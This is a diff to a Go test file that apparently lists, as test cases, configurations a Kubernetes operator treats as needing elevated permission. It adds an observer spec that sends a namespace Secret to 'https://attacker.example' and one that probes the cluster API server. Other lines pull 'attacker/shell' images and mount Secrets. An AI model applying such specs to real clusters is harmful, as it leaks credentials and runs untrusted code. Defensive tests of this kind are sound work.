@@ -7,6 +7,8 @@ func NeedingPods() []Try {
 		{"a TRex of one's own", "generator: {engine: TRex, trex: {image: attacker/shell}}", "generator.trex"},
 		{"generators where one likes", "generator: {engine: Software, pod: {priorityClassName: urgent, nodeSelector: {kubernetes.io/hostname: master}, labels: {app: shop}}}", "generator.pod"},
 		{"the operator's reach to any server", "generator: {engine: External, external: {servers: ['kubernetes.default:443']}}\ndut: {type: Device}", "generator.external"},
+		{"a Secret of the namespace, shown to any server", "dut: {type: Device}\nobservers: [{name: power, of: Lab, type: Redfish, redfish: {url: 'https://attacker.example', secretName: s}}]", "observers that ask over the network"},
+		{"any server of the pods' network", "dut: {type: Device}\nobservers: [{name: up, of: Lab, type: Prometheus, prometheus: {url: 'http://kubernetes.default', query: up, unit: W}}]", "observers that ask over the network"},
 		{"a Secret of the namespace", "dut: {type: Pod, pod: {template: {spec: {containers: [{name: c, image: i, env: [{name: S, valueFrom: {secretKeyRef: {name: s, key: k}}}]}], volumes: [{name: v, secret: {secretName: s}}]}}}}", "dut.pod"},
 		{"a device's program from any image", "dut: {type: Reference, reference: {mode: {userspace: {kind: testpmd}}, image: attacker/shell}}", "dut.reference.image"},
 		{"a pod before the test", "dut: {type: Reference, setup: {template: {spec: {containers: [{name: c, image: i}]}}}}", "dut.setup"},
